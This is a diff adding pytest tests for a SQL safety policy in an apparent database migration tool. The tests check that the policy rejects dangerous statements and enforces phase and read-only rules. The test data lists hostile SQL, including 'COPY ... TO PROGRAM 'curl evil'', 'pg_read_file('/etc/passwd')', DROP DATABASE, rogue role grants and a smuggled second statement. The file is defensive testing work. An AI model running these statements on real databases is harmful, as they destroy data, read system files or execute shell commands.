@@ -1,0 +1,63 @@
+"""The SQL policy refuses what zdt must never run, whoever proposed it."""
+
+from __future__ import annotations
+
+import pytest
+
+from zdt.policy import PolicyViolation, check_script
+
+NEVER = [
+    ("DROP DATABASE prod", "dropping a database"),
+    ("CREATE DATABASE x", "creating a database"),
+    ("ALTER ROLE app SUPERUSER", "altering a role"),
+    ("CREATE ROLE intruder LOGIN", "creating a role"),
+    ("GRANT pg_read_server_files TO app", "granting a role"),
+    ("ALTER SYSTEM SET fsync = off", "ALTER SYSTEM"),
+    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
+    ("WITH x AS (SELECT pg_cancel_backend(42)) SELECT 1", "pg_cancel_backend"),
+    ("COPY posts TO PROGRAM 'curl evil'", "PROGRAM"),
+    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
+]
+
+
+@pytest.mark.parametrize(("statement", "reason"), NEVER)
+@pytest.mark.parametrize("phase", ["expand", "migrate", "contract"])
+def test_never_allowed_in_any_phase(statement: str, reason: str, phase: str) -> None:
+    with pytest.raises(PolicyViolation) as caught:
+        check_script(statement, phase=phase)
+    assert reason in str(caught.value)
+    assert statement in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "statement", ["DROP TABLE posts", "ALTER TABLE posts DROP COLUMN body", "TRUNCATE posts"]
+)
+def test_destructive_statements_only_in_contract(statement: str) -> None:
+    for phase in ("expand", "migrate"):
+        with pytest.raises(PolicyViolation, match="contract phase"):
+            check_script(statement, phase=phase)
+    check_script(statement, phase="contract")
+
+
+def test_read_only_allows_queries_only() -> None:
+    check_script("SELECT count(*) FROM posts WHERE author_id = 1", read_only=True)
+    check_script("EXPLAIN SELECT 1", read_only=True)
+    for statement in (
+        "UPDATE posts SET title = 'x'",
+        "CREATE INDEX i ON posts (a)",
+        "SELECT 1 FROM t FOR UPDATE",
+    ):
+        with pytest.raises(PolicyViolation):
+            check_script(statement, read_only=True)
+
+
+def test_smuggled_second_statement_is_refused() -> None:
+    with pytest.raises(PolicyViolation, match="exactly one statement"):
+        check_script("SELECT 1; DROP TABLE posts", read_only=True, single_statement=True)
+
+
+def test_ordinary_migration_statements_pass() -> None:
+    check_script(
+        "CREATE TABLE t (id bigint); CREATE INDEX CONCURRENTLY t_id ON t (id); GRANT SELECT ON t TO app",
+        phase="expand",
+    )
